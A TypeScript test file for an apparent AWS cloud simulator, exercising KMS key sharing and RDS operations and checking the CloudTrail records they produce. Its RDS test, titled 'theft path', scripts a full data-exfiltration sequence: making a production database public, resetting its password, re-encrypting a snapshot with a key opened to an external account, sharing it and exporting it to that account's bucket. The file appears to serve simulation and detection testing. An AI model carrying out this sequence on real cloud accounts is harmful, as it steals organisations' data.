import { CreateRoleCommand, IAMClient } from '@aws-sdk/client-iam';
import {
  CancelKeyDeletionCommand,
  CreateGrantCommand,
  CreateKeyCommand,
  DescribeKeyCommand,
  DisableKeyCommand,
  GetKeyPolicyCommand,
  KMSClient,
  ListGrantsCommand,
  ListKeysCommand,
  PutKeyPolicyCommand,
  ScheduleKeyDeletionCommand,
} from '@aws-sdk/client-kms';
import {
  CopyDBSnapshotCommand,
  CreateDBInstanceCommand,
  CreateDBSnapshotCommand,
  DeleteDBInstanceCommand,
  DeleteDBSnapshotCommand,
  DescribeDBInstancesCommand,
  DescribeDBSnapshotAttributesCommand,
  DescribeDBSnapshotsCommand,
  DescribeExportTasksCommand,
  ModifyDBInstanceCommand,
  ModifyDBSnapshotAttributeCommand,
  RDSClient,
  StartExportTaskCommand,
} from '@aws-sdk/client-rds';
import { CreateBucketCommand, S3Client } from '@aws-sdk/client-s3';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { SimClock, startSim, type RunningSim } from '../../index.js';
import { EXTERNAL_ACCOUNT, VICTIM_ACCOUNT } from '../../state.js';
import { runAws, sdkConfig, type Creds } from '../../test-support/aws.js';
import { createUserWithKey } from '../iam/entities.js';

let sim: RunningSim;
let admin: Creds;
let foreign: Creds;
let cmkArn = '';

const rds = (region = 'us-east-1', who = admin) => new RDSClient(sdkConfig(sim, who, region));
const kms = (region = 'us-east-1', who = admin) => new KMSClient(sdkConfig(sim, who, region));
const rejection = (p: Promise<unknown>) =>
  p.then(
    () => ({ name: 'none', message: '' }),
    (e: Error) => ({ name: e.name, message: e.message }),
  );
const records = (name: string) =>
  sim.state.accountOrThrow(VICTIM_ACCOUNT).cloudtrail.events.filter((e) => e.eventName === name);

const SHARE_POLICY = (account: string) =>
  JSON.stringify({
    Version: '2012-10-17',
    Statement: [
      {
        Sid: 'Owner',
        Effect: 'Allow',
        Principal: { AWS: `arn:aws:iam::${VICTIM_ACCOUNT}:root` },
        Action: 'kms:*',
        Resource: '*',
      },
      {
        Sid: 'Partner',
        Effect: 'Allow',
        Principal: { AWS: `arn:aws:iam::${account}:root` },
        Action: ['kms:Decrypt', 'kms:DescribeKey', 'kms:CreateGrant'],
        Resource: '*',
      },
    ],
  });

beforeAll(async () => {
  sim = await startSim({ seed: 31, clock: new SimClock({ start: '2026-11-20T12:00:00Z', frozen: true }) });
  const policy = { managedPolicies: ['arn:aws:iam::aws:policy/AdministratorAccess'] };
  admin = createUserWithKey(sim.state, VICTIM_ACCOUNT, 'dba', policy).key;
  foreign = createUserWithKey(sim.state, EXTERNAL_ACCOUNT, 'collector', policy).key;
  const s3 = new S3Client({ ...sdkConfig(sim, foreign), forcePathStyle: true });
  await s3.send(new CreateBucketCommand({ Bucket: 'drop-zone-4444' }));
  await new IAMClient(sdkConfig(sim, admin)).send(
    new CreateRoleCommand({
      RoleName: 'rds-s3-export',
      AssumeRolePolicyDocument: JSON.stringify({
        Version: '2012-10-17',
        Statement: [
          { Effect: 'Allow', Principal: { Service: 'export.rds.amazonaws.com' }, Action: 'sts:AssumeRole' },
        ],
      }),
    }),
  );
});
afterAll(() => sim.stop());

describe('KMS (SDK v3)', () => {
  it('creates a key, opens its policy to another account, grants it and takes it through disable and deletion', async () => {
    const created = await kms('eu-west-1').send(new CreateKeyCommand({ Description: 'snapshot copy key' }));
    const meta = created.KeyMetadata!;
    cmkArn = meta.Arn!;
    expect(meta).toMatchObject({
      KeyState: 'Enabled',
      Enabled: true,
      KeyManager: 'CUSTOMER',
      AWSAccountId: VICTIM_ACCOUNT,
    });
    expect(cmkArn).toMatch(/^arn:aws:kms:eu-west-1:111122223333:key\/[0-9a-f-]{36}$/);
    await kms('eu-west-1').send(
      new PutKeyPolicyCommand({
        KeyId: meta.KeyId!,
        PolicyName: 'default',
        Policy: SHARE_POLICY(EXTERNAL_ACCOUNT),
      }),
    );
    const policy = await kms('eu-west-1').send(new GetKeyPolicyCommand({ KeyId: cmkArn }));
    expect(policy.Policy).toContain(`arn:aws:iam::${EXTERNAL_ACCOUNT}:root`);
    const grant = await kms('eu-west-1').send(
      new CreateGrantCommand({
        KeyId: cmkArn,
        GranteePrincipal: `arn:aws:iam::${EXTERNAL_ACCOUNT}:root`,
        Operations: ['Decrypt', 'CreateGrant'],
      }),
    );
    expect(grant.GrantId).toMatch(/^[0-9a-f]{64}$/);
    const grants = await kms('eu-west-1').send(new ListGrantsCommand({ KeyId: cmkArn }));
    expect(grants.Grants).toEqual([
      expect.objectContaining({ GrantId: grant.GrantId, Operations: ['Decrypt', 'CreateGrant'] }),
    ]);
    // The key is in eu-west-1 only.
    expect((await kms('eu-west-1').send(new ListKeysCommand({}))).Keys?.map((k) => k.KeyArn)).toEqual([
      cmkArn,
    ]);
    expect(await rejection(kms('us-east-1').send(new DescribeKeyCommand({ KeyId: meta.KeyId! })))).toEqual({
      name: 'NotFoundException',
      message: `Key 'arn:aws:kms:us-east-1:111122223333:key/${meta.KeyId}' does not exist`,
    });
    // The foreign account may describe it (key policy), and the call is recorded on both sides.
    expect(
      (await kms('eu-west-1', foreign).send(new DescribeKeyCommand({ KeyId: cmkArn }))).KeyMetadata?.Arn,
    ).toBe(cmkArn);

    const spare = (await kms().send(new CreateKeyCommand({}))).KeyMetadata!.KeyId!;
    await kms().send(new DisableKeyCommand({ KeyId: spare }));
    expect((await kms().send(new DescribeKeyCommand({ KeyId: spare }))).KeyMetadata?.KeyState).toBe(
      'Disabled',
    );
    expect(
      await rejection(kms().send(new ScheduleKeyDeletionCommand({ KeyId: spare, PendingWindowInDays: 3 }))),
    ).toMatchObject({
      name: 'ValidationException',
    });
    const scheduled = await kms().send(
      new ScheduleKeyDeletionCommand({ KeyId: spare, PendingWindowInDays: 7 }),
    );
    expect(scheduled).toMatchObject({ KeyState: 'PendingDeletion', PendingWindowInDays: 7 });
    expect(scheduled.DeletionDate?.toISOString()).toBe('2026-11-27T12:00:00.000Z');
    expect(await rejection(kms().send(new DisableKeyCommand({ KeyId: spare })))).toMatchObject({
      name: 'KMSInvalidStateException',
    });
    await kms().send(new CancelKeyDeletionCommand({ KeyId: spare }));
    expect((await kms().send(new DescribeKeyCommand({ KeyId: spare }))).KeyMetadata?.KeyState).toBe(
      'Disabled',
    );

    const put = records('PutKeyPolicy')[0]!;
    expect(put).toMatchObject({
      eventSource: 'kms.amazonaws.com',
      managementEvent: true,
      readOnly: false,
      awsRegion: 'eu-west-1',
    });
    expect(put.resources).toEqual([{ ARN: cmkArn, accountId: VICTIM_ACCOUNT, type: 'AWS::KMS::Key' }]);
    expect(records('DescribeKey').some((e) => e.userIdentity.accountId === EXTERNAL_ACCOUNT)).toBe(true);
  });
});

describe('RDS (SDK v3)', () => {
  it('runs the theft path: snapshot, refused share of an aws/rds snapshot, cross-region copy with a KMS key, share, export', async () => {
    const created = await rds().send(
      new CreateDBInstanceCommand({
        DBInstanceIdentifier: 'orders-prod',
        DBInstanceClass: 'db.r6g.large',
        Engine: 'postgres',
        AllocatedStorage: 200,
        MasterUsername: 'orders',
        MasterUserPassword: 'Initial-Secret-1',
        StorageEncrypted: true,
        DeletionProtection: true,
        Tags: [{ Key: 'env', Value: 'prod' }],
      }),
    );
    expect(created.DBInstance).toMatchObject({
      DBInstanceIdentifier: 'orders-prod',
      StorageEncrypted: true,
      DeletionProtection: true,
      PubliclyAccessible: false,
      TagList: [{ Key: 'env', Value: 'prod' }],
      Endpoint: { Port: 5432 },
    });
    const awsKey = created.DBInstance!.KmsKeyId!;
    expect((await kms().send(new DescribeKeyCommand({ KeyId: awsKey }))).KeyMetadata?.KeyManager).toBe('AWS');

    const modified = await rds().send(
      new ModifyDBInstanceCommand({
        DBInstanceIdentifier: 'orders-prod',
        PubliclyAccessible: true,
        MasterUserPassword: 'Attacker-Pass-9',
        ApplyImmediately: true,
      }),
    );
    expect(modified.DBInstance?.PubliclyAccessible).toBe(true);
    expect(
      await rejection(
        rds().send(
          new DeleteDBInstanceCommand({ DBInstanceIdentifier: 'orders-prod', SkipFinalSnapshot: true }),
        ),
      ),
    ).toMatchObject({
      name: 'InvalidParameterCombination',
    });
    const [list] = [(await rds().send(new DescribeDBInstancesCommand({}))).DBInstances];
    expect(list?.map((i) => i.DBInstanceIdentifier)).toEqual(['orders-prod']);
    expect(
      await rejection(rds().send(new DescribeDBInstancesCommand({ DBInstanceIdentifier: 'nope' }))),
    ).toEqual({
      name: 'DBInstanceNotFoundFault',
      message: 'DBInstance nope not found.',
    });

    const snap = await rds().send(
      new CreateDBSnapshotCommand({
        DBInstanceIdentifier: 'orders-prod',
        DBSnapshotIdentifier: 'orders-snap',
      }),
    );
    expect(snap.DBSnapshot).toMatchObject({
      Encrypted: true,
      KmsKeyId: awsKey,
      AllocatedStorage: 200,
      SnapshotType: 'manual',
      Status: 'available',
    });
    expect(
      await rejection(
        rds().send(
          new ModifyDBSnapshotAttributeCommand({
            DBSnapshotIdentifier: 'orders-snap',
            AttributeName: 'restore',
            ValuesToAdd: [EXTERNAL_ACCOUNT],
          }),
        ),
      ),
    ).toMatchObject({ name: 'InvalidParameterValue' });
    expect(
      await rejection(
        rds('eu-west-1').send(
          new CopyDBSnapshotCommand({
            SourceDBSnapshotIdentifier: snap.DBSnapshot!.DBSnapshotArn!,
            TargetDBSnapshotIdentifier: 'x',
          }),
        ),
      ),
    ).toMatchObject({ name: 'InvalidParameterValue' });

    const copy = await rds('eu-west-1').send(
      new CopyDBSnapshotCommand({
        SourceDBSnapshotIdentifier: snap.DBSnapshot!.DBSnapshotArn!,
        TargetDBSnapshotIdentifier: 'orders-snap-copy',
        KmsKeyId: cmkArn,
      }),
    );
    expect(copy.DBSnapshot).toMatchObject({
      DBSnapshotIdentifier: 'orders-snap-copy',
      KmsKeyId: cmkArn,
      SourceRegion: 'us-east-1',
      SourceDBSnapshotIdentifier: snap.DBSnapshot!.DBSnapshotArn,
    });
    const copyArn = copy.DBSnapshot!.DBSnapshotArn!;
    expect(copyArn).toBe('arn:aws:rds:eu-west-1:111122223333:snapshot:orders-snap-copy');

    const shared = await rds('eu-west-1').send(
      new ModifyDBSnapshotAttributeCommand({
        DBSnapshotIdentifier: 'orders-snap-copy',
        AttributeName: 'restore',
        ValuesToAdd: [EXTERNAL_ACCOUNT],
      }),
    );
    expect(shared.DBSnapshotAttributesResult?.DBSnapshotAttributes).toEqual([
      { AttributeName: 'restore', AttributeValues: [EXTERNAL_ACCOUNT] },
    ]);
    expect(
      await rejection(
        rds('eu-west-1').send(
          new ModifyDBSnapshotAttributeCommand({
            DBSnapshotIdentifier: 'orders-snap-copy',
            AttributeName: 'restore',
            ValuesToAdd: ['all'],
          }),
        ),
      ),
    ).toMatchObject({ name: 'InvalidParameterValue' });
    // The foreign account sees the share and can copy it into its own account with its key access.
    const seen = await rds('eu-west-1', foreign).send(
      new DescribeDBSnapshotsCommand({ SnapshotType: 'shared', IncludeShared: true }),
    );
    expect(seen.DBSnapshots?.map((s) => s.DBSnapshotArn)).toEqual([copyArn]);
    expect((await rds('eu-west-1', foreign).send(new DescribeDBSnapshotsCommand({}))).DBSnapshots).toEqual(
      [],
    );

    const started = await rds('eu-west-1').send(
      new StartExportTaskCommand({
        ExportTaskIdentifier: 'orders-export',
        SourceArn: copyArn,
        S3BucketName: 'drop-zone-4444',
        S3Prefix: 'dump',
        IamRoleArn: `arn:aws:iam::${VICTIM_ACCOUNT}:role/rds-s3-export`,
        KmsKeyId: cmkArn,
      }),
    );
    expect(started).toMatchObject({ Status: 'STARTING', S3Bucket: 'drop-zone-4444', SourceType: 'SNAPSHOT' });
    expect(
      await rejection(
        rds('eu-west-1').send(
          new StartExportTaskCommand({
            ExportTaskIdentifier: 'e2',
            SourceArn: copyArn,
            S3BucketName: 'no-such-bucket-x',
            IamRoleArn: `arn:aws:iam::${VICTIM_ACCOUNT}:role/rds-s3-export`,
            KmsKeyId: cmkArn,
          }),
        ),
      ),
    ).toMatchObject({ name: 'InvalidS3BucketFault' });
    sim.clock.advance(60 * 60_000);
    const tasks = await rds('eu-west-1').send(new DescribeExportTasksCommand({}));
    expect(tasks.ExportTasks).toEqual([
      expect.objectContaining({
        ExportTaskIdentifier: 'orders-export',
        Status: 'COMPLETE',
        PercentProgress: 100,
      }),
    ]);

    // CloudTrail: every call a management event; the password shown as ****.
    const modify = records('ModifyDBInstance')[0]!;
    expect(modify.requestParameters).toMatchObject({
      dBInstanceIdentifier: 'orders-prod',
      publiclyAccessible: true,
      masterUserPassword: '****',
    });
    expect(JSON.stringify(sim.state.accountOrThrow(VICTIM_ACCOUNT).cloudtrail.events)).not.toMatch(
      /Attacker-Pass-9|Initial-Secret-1/,
    );
    const share = records('ModifyDBSnapshotAttribute').find((e) => !e.errorCode)!;
    expect(share).toMatchObject({
      eventSource: 'rds.amazonaws.com',
      awsRegion: 'eu-west-1',
      managementEvent: true,
      readOnly: false,
      requestParameters: {
        dBSnapshotIdentifier: 'orders-snap-copy',
        attributeName: 'restore',
        valuesToAdd: [EXTERNAL_ACCOUNT],
      },
    });
    expect(records('CopyDBSnapshot').find((e) => !e.errorCode)?.requestParameters).toMatchObject({
      kmsKeyId: cmkArn,
      targetDBSnapshotIdentifier: 'orders-snap-copy',
    });
    expect(records('StartExportTask').find((e) => !e.errorCode)?.requestParameters).toMatchObject({
      s3BucketName: 'drop-zone-4444',
    });
    expect(records('DescribeExportTasks')[0]).toMatchObject({ readOnly: true, managementEvent: true });

    await rds('eu-west-1').send(new DeleteDBSnapshotCommand({ DBSnapshotIdentifier: 'orders-snap-copy' }));
    expect(
      await rejection(
        rds('eu-west-1').send(new DescribeDBSnapshotsCommand({ DBSnapshotIdentifier: 'orders-snap-copy' })),
      ),
    ).toMatchObject({
      name: 'DBSnapshotNotFoundFault',
    });
  });
});

describe('RDS and KMS (/usr/bin/aws 2.9)', () => {
  it('reads and removes a share, describes keys and exports', async () => {
    const cliKey = (await kms().send(new CreateKeyCommand({}))).KeyMetadata!.Arn!;
    await rds().send(
      new CopyDBSnapshotCommand({
        SourceDBSnapshotIdentifier: 'orders-snap',
        TargetDBSnapshotIdentifier: 'orders-cli',
        KmsKeyId: cliKey,
      }),
    );
    await rds().send(
      new ModifyDBSnapshotAttributeCommand({
        DBSnapshotIdentifier: 'orders-cli',
        AttributeName: 'restore',
        ValuesToAdd: [EXTERNAL_ACCOUNT, '999988887777'],
      }),
    );
    const remove = await runAws(sim, admin, [
      'rds',
      'modify-db-snapshot-attribute',
      '--db-snapshot-identifier',
      'orders-cli',
      '--attribute-name',
      'restore',
      '--values-to-remove',
      EXTERNAL_ACCOUNT,
    ]);
    expect(remove.code).toBe(0);
    const attrs = await runAws(sim, admin, [
      'rds',
      'describe-db-snapshot-attributes',
      '--db-snapshot-identifier',
      'orders-cli',
    ]);
    expect(JSON.parse(attrs.stdout)).toEqual({
      DBSnapshotAttributesResult: {
        DBSnapshotIdentifier: 'orders-cli',
        DBSnapshotAttributes: [{ AttributeName: 'restore', AttributeValues: ['999988887777'] }],
      },
    });
    const sdkView = await rds().send(
      new DescribeDBSnapshotAttributesCommand({ DBSnapshotIdentifier: 'orders-cli' }),
    );
    expect(sdkView.DBSnapshotAttributesResult?.DBSnapshotAttributes?.[0]?.AttributeValues).toEqual([
      '999988887777',
    ]);
    const missing = await runAws(sim, admin, [
      'rds',
      'describe-db-snapshots',
      '--db-snapshot-identifier',
      'gone',
    ]);
    expect(missing.code).toBe(254);
    expect(missing.stderr).toContain(
      '(DBSnapshotNotFound) when calling the DescribeDBSnapshots operation: DBSnapshot gone not found.',
    );
    const key = await runAws(sim, admin, ['kms', 'describe-key', '--key-id', cmkArn], 'eu-west-1');
    expect((JSON.parse(key.stdout) as { KeyMetadata: unknown }).KeyMetadata).toMatchObject({
      Arn: cmkArn,
      KeyState: 'Enabled',
    });
    const instances = await runAws(sim, admin, ['rds', 'describe-db-instances']);
    expect((JSON.parse(instances.stdout) as { DBInstances: unknown[] }).DBInstances[0]).toMatchObject({
      DBInstanceIdentifier: 'orders-prod',
      PubliclyAccessible: true,
      DeletionProtection: true,
    });
  });
});
